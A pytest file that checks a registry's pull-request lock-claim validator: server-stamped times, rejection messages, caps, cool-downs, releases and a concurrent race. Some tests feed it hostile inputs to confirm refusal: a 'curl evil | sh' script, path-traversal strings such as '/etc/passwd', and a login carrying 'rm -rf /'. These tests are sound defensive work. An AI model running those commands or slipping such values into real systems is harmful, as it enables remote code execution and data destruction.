"""Claims by pull request: the diff read as data, every rejection a one-line reason, the lock
stamped with the server's clock, and 8 racing claims giving exactly one holder."""

from __future__ import annotations

import threading
from datetime import timedelta
from pathlib import Path

import pytest

from fedem.clock import ManualClock, format_time
from fedem.errors import RegistryError
from fedem.registry.claims import (
    Change,
    ClaimRejected,
    comment,
    force_release,
    request_from_changes,
    run_check_claim,
)
from fedem.registry.contribute import prepare_request
from fedem.registry.model import parse_adapter
from fedem.registry.store import GitStore

from ._helpers import CATALOGUE, T0, TEST_IDENTITIES, FakeHub, git, remote_file, remote_log, rev

HI = "registry/adapters/seshu-hi.yaml"
POLICY = "ttl_minutes: 180\nmax_holds: 1\ncooldown_minutes: 60\nmaintainers: [boss]\n" + TEST_IDENTITIES


def clone(remote: Path, where: Path) -> Path:
    where.mkdir(parents=True)
    git(where, "init", "-q")
    git(where, "remote", "add", "origin", str(remote))
    git(where, "fetch", "-q", "origin", "registry")
    return where


def pr(remote: Path, tmp_path: Path, edits: dict[str, str | None], tag: str = "pr") -> tuple[str, str]:
    """Push a hand-made PR branch; returns (base, head)."""
    work = clone(remote, tmp_path / f"work-{tag}")
    git(work, "checkout", "-q", "-b", tag, "FETCH_HEAD")
    base = git(work, "rev-parse", "HEAD")
    for rel, text in edits.items():
        if text is None:
            git(work, "rm", "-q", rel)
        else:
            (work / rel).parent.mkdir(parents=True, exist_ok=True)
            (work / rel).write_text(text)
            git(work, "add", rel)
    git(work, "commit", "-qm", tag)
    git(work, "push", "-q", "origin", tag)
    return base, git(work, "rev-parse", "HEAD")


def server(remote: Path, tmp_path: Path, tag: str = "server") -> Path:
    """The workflow's repository: it fetches the registry and the PR heads (as data)."""
    repo = tmp_path / tag
    if not repo.exists():
        git(tmp_path, "init", "-q", "--bare", str(repo))
    git(repo, "fetch", "-q", str(remote), "+refs/heads/*:refs/remotes/origin/*")
    return repo


def check(remote, tmp_path, base, head, author, clock, merge=True, **kw):
    return run_check_claim(
        server(remote, tmp_path),
        str(remote),
        base=base,
        head=head,
        author=author,
        merge=merge,
        clock=clock,
        **kw,
    )


def claim_text(holder: str, name: str = "seshu-hi", **lock) -> str:
    text = (CATALOGUE / "adapters" / f"{name}.yaml").read_text().replace("holder: null", f"holder: {holder}")
    for key, value in lock.items():
        text = text.replace(f"{key}: null", f"{key}: '{value}'")
    return text


@pytest.fixture
def remote(make_remote):
    return make_remote(policy=POLICY)


def test_claim_is_stamped_with_server_time(remote, tmp_path):
    # The contributor's clock is years off; it never matters.
    prep = prepare_request(
        clone(remote, tmp_path / "alice"), "seshu-hi", "alice", push=True, open_pr=False,
        clock=ManualClock(T0 - timedelta(days=900)),
    )  # fmt: skip
    assert "holder: alice" in git(remote, "show", f"{prep.branch}:{HI}")
    assert "since: null" in git(remote, "show", f"{prep.branch}:{HI}")
    server_clock = ManualClock(T0 + timedelta(minutes=5))
    result = check(remote, tmp_path, prep.base, prep.commit, "alice", server_clock, pr=7)
    lock = parse_adapter(remote_file(remote, HI), HI).lock
    assert (lock.holder, lock.since, lock.until, lock.claim) == (
        "alice", "2026-11-28T09:05:00Z", "2026-11-28T12:05:00Z", "#7",
    )  # fmt: skip
    assert result.commit == git(remote, "rev-parse", "registry")
    assert git(remote, "log", "-1", "--format=%s", "registry") == "claim: seshu-hi by alice (#7)"
    # The PR's own commit never enters the registry branch: linear history, bot-written.
    assert all(len(line.split()) == 2 for line in remote_log(remote)[:-1])
    assert prep.commit not in git(remote, "rev-list", "registry").splitlines()
    assert "Claimed" in comment(result) and "2026-11-28T12:05:00Z" in comment(result)


def test_check_without_merge_writes_nothing(remote, tmp_path, clock):
    prep = prepare_request(clone(remote, tmp_path / "a"), "seshu-hi", "alice", open_pr=False, clock=clock)
    head = git(remote, "rev-parse", "registry")
    result = check(remote, tmp_path, prep.base, prep.commit, "alice", clock, merge=False)
    assert result.adapter.lock.holder == "alice" and result.commit is None
    assert git(remote, "rev-parse", "registry") == head


def _rejected(remote, tmp_path, edits, author, clock, match, tag="pr"):
    base, head = pr(remote, tmp_path, edits, tag)
    before = git(remote, "rev-parse", "registry")
    with pytest.raises(ClaimRejected, match=match) as err:
        check(remote, tmp_path, base, head, author, clock)
    assert "\n" not in str(err.value)
    assert git(remote, "rev-parse", "registry") == before, "a rejected claim writes nothing"
    return str(err.value)


def test_claim_under_another_login(remote, tmp_path, clock):
    _rejected(
        remote,
        tmp_path,
        {HI: claim_text("bob")},
        "alice",
        clock,
        "lock.holder is 'bob' but the pull request is by 'alice'",
    )


def test_pr_touching_two_files(remote, tmp_path, clock):
    te = "registry/adapters/seshu-te.yaml"
    edits = {HI: claim_text("alice"), te: claim_text("alice", "seshu-te")}
    _rejected(remote, tmp_path, edits, "alice", clock, "exactly one file.*changes 2")


def test_pr_touching_policy_or_code(remote, tmp_path, clock):
    _rejected(
        remote,
        tmp_path,
        {"registry/policy.yaml": "ttl_minutes: 9999\n"},
        "alice",
        clock,
        "not an adapter file",
    )
    _rejected(
        remote,
        tmp_path,
        {"run.sh": "curl evil | sh\n"},
        "alice",
        clock,
        "'run.sh': not an adapter file",
        "pr2",
    )
    _rejected(
        remote,
        tmp_path,
        {"registry/adapters/x/y.yaml": "a: 1\n"},
        "alice",
        clock,
        "not an adapter file",
        "pr3",
    )


def test_unknown_adapter(remote, tmp_path, clock):
    text = claim_text("alice").replace("seshu-hi", "nope")
    _rejected(
        remote, tmp_path, {"registry/adapters/nope.yaml": text}, "alice", clock, "unknown adapter 'nope'"
    )


def test_malformed_yaml_in_pr(remote, tmp_path, clock):
    msg = _rejected(
        remote, tmp_path, {HI: "name: seshu-hi\nlock: {holder: [\n"}, "alice", clock, "invalid YAML"
    )
    assert msg.startswith(HI)


def test_spec_or_history_change(remote, tmp_path, clock):
    text = claim_text("alice").replace("rank: 16", "rank: 64")
    _rejected(remote, tmp_path, {HI: text}, "alice", clock, "spec: a claim may change only the lock fields")


def test_backdated_claim(remote, tmp_path, clock):
    text = claim_text("alice", since="2020-01-01T00:00:00Z", until="2099-01-01T00:00:00Z")
    _rejected(remote, tmp_path, {HI: text}, "alice", clock, "must stay null; the server stamps them")


def test_deleting_the_file(remote, tmp_path, clock):
    _rejected(remote, tmp_path, {HI: None}, "alice", clock, "must edit the file in place")


@pytest.mark.parametrize(
    "path",
    [
        "../x",
        "/etc/passwd",
        "registry/adapters/../policy.yaml",
        "registry/adapters/UPPER.yaml",
        "/registry/adapters/x.yaml",
    ],
)
def test_path_tricks_in_the_diff(path):
    change = Change("M", path, "100644", "100644", "a" * 40, "b" * 40)
    with pytest.raises(ClaimRejected, match="not an adapter file"):
        request_from_changes([change], lambda sha: b"", "alice")


def test_symlink_is_refused():
    change = Change("T", HI, "100644", "120000", "a" * 40, "b" * 40)
    with pytest.raises(ClaimRejected, match="in place"):
        request_from_changes([change], lambda sha: b"", "alice")


def test_bad_author_login():
    with pytest.raises(RegistryError, match="pull request author"):
        request_from_changes([], lambda sha: b"", "alice; rm -rf /")


def _claim(remote, tmp_path, login, clock, name="seshu-hi", tag=None, kind="claim"):
    prep = prepare_request(
        clone(remote, tmp_path / (tag or f"{kind}-{login}-{name}")),
        name,
        login,
        kind,
        open_pr=False,
        clock=clock,
    )
    return check(remote, tmp_path, prep.base, prep.commit, login, clock)


def test_held_then_expired_then_claimable_with_hop_recorded(remote, tmp_path, clock):
    _claim(remote, tmp_path, "alice", clock)
    base, head = pr(remote, tmp_path, {HI: claim_text("bob")}, "bob-early")
    with pytest.raises(ClaimRejected, match="already held by alice until 2026-11-28T12:00:00Z"):
        check(remote, tmp_path, base, head, "bob", clock)
    # Three hours later the lock has expired, though no reconciler ran: bob may claim. Alice had
    # published in time, so her hop is recorded before bob's lock is written.
    clock.advance(hours=3)
    hub = FakeHub({"seshu-hi": [rev("seshu-hi", "r-alice", "alice", T0 + timedelta(hours=2))]})
    result = check(remote, tmp_path, base, head, "bob", clock, hub=hub)
    a = parse_adapter(remote_file(remote, HI), HI)
    assert a.lock.holder == "bob" and a.lock.since == format_time(clock.now())
    assert [h.revision for h in a.hops] == ["r-alice"] and a.previous.reason == "hop"
    assert [e.kind for e in result.events] == ["hop"]


def test_claim_by_a_login_without_hub_identity_is_refused(make_remote, tmp_path, clock):
    """No revision could ever complete the lock, so the claim would only block the adapter."""
    remote = make_remote(policy="identities: {alice: [alice-hf]}\n")
    prep = prepare_request(clone(remote, tmp_path / "dave"), "seshu-hi", "dave", open_pr=False, clock=clock)
    head = git(remote, "rev-parse", "registry")
    with pytest.raises(ClaimRejected) as err:
        check(remote, tmp_path, prep.base, prep.commit, "dave", clock)
    assert str(err.value) == (
        "dave has no hub identity in registry/policy.yaml (identities); a maintainer must map the "
        "login to the hub account you publish with, e.g. `dave: [your-hub-user]`"
    )
    assert git(remote, "rev-parse", "registry") == head
    # Mapped, or with the same-name fallback, the same claim goes through.
    assert _claim(remote, tmp_path, "alice", clock).adapter.lock.holder == "alice"
    fallback = make_remote(policy="identity_fallback: same-name\n", name="fallback.git")
    assert _claim(fallback, tmp_path / "fb", "dave", clock).adapter.lock.holder == "dave"


def test_per_user_cap(remote, tmp_path, clock):
    _claim(remote, tmp_path, "alice", clock)
    with pytest.raises(ClaimRejected, match=r"alice already holds 1 lock\(s\) \(seshu-hi\); the cap is 1"):
        _claim(remote, tmp_path, "alice", clock, name="seshu-te")


def test_cool_down_after_own_lock(remote, tmp_path, clock):
    _claim(remote, tmp_path, "alice", clock)
    clock.advance(hours=3, minutes=30)  # expired 30 min ago
    with pytest.raises(ClaimRejected, match="cool-down of 60 min lasts until 2026-11-28T13:00:00Z"):
        _claim(remote, tmp_path, "alice", clock, tag="again")
    clock.advance(minutes=30)
    assert _claim(remote, tmp_path, "alice", clock, tag="again2").adapter.lock.holder == "alice"


def test_release_by_holder_only(remote, tmp_path, clock):
    _claim(remote, tmp_path, "alice", clock)
    clock.advance(minutes=10)
    with pytest.raises(RegistryError, match="not held by bob"):
        prepare_request(
            clone(remote, tmp_path / "b"), "seshu-hi", "bob", "release", open_pr=False, clock=clock
        )
    # A hand-made release PR by bob is refused by the server too.
    base, head = pr(
        remote, tmp_path, {HI: (CATALOGUE / "adapters" / "seshu-hi.yaml").read_text()}, "bob-release"
    )
    with pytest.raises(ClaimRejected, match="bob cannot release it: it is held by alice"):
        check(remote, tmp_path, base, head, "bob", clock)
    result = _claim(remote, tmp_path, "alice", clock, kind="release")
    a = parse_adapter(remote_file(remote, HI), HI)
    assert a.lock.state == "free" and (a.previous.reason, a.previous.ended) == (
        "released",
        format_time(clock.now()),
    )
    assert "Released" in comment(result)


def test_force_release(remote, tmp_path, clock):
    _claim(remote, tmp_path, "alice", clock)
    store = GitStore(tmp_path / "m.git", str(remote), clock=clock)
    with pytest.raises(ClaimRejected, match="mallory is not a maintainer"):
        force_release(store, "seshu-hi", "mallory")
    result = force_release(store, "seshu-hi", "boss", "stuck")
    assert result.commit and parse_adapter(remote_file(remote, HI), HI).previous.reason == "forced"
    assert "by maintainer boss: stuck" in git(remote, "log", "-1", "--format=%s", "registry")
    with pytest.raises(ClaimRejected, match="not held; nothing to release"):
        force_release(store, "seshu-hi", "boss")


def test_eight_racing_claims_give_one_holder(remote, tmp_path, clock):
    users = [f"user{i}" for i in range(8)]
    preps = {
        u: prepare_request(clone(remote, tmp_path / u), "seshu-hi", u, open_pr=False, clock=clock)
        for u in users
    }
    servers = {u: server(remote, tmp_path, f"server-{u}") for u in users}  # each its own clone
    before = remote_log(remote)
    barrier = threading.Barrier(len(users))
    results: dict[str, object] = {}

    def attempt(u):
        barrier.wait()
        try:
            results[u] = run_check_claim(
                servers[u],
                str(remote),
                base=preps[u].base,
                head=preps[u].commit,
                author=u,
                merge=True,
                clock=clock,
            )
        except ClaimRejected as err:
            results[u] = err

    threads = [threading.Thread(target=attempt, args=(u,)) for u in users]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    winners = [u for u, r in results.items() if not isinstance(r, Exception)]
    assert len(winners) == 1, results
    (winner,) = winners
    for u in users:
        if u != winner:
            assert f"already held by {winner}" in str(results[u])
    assert parse_adapter(remote_file(remote, HI), HI).lock.holder == winner
    log = remote_log(remote)
    assert len(log) == len(before) + 1
    assert all(len(line.split()) <= 2 for line in log), "history stays linear"
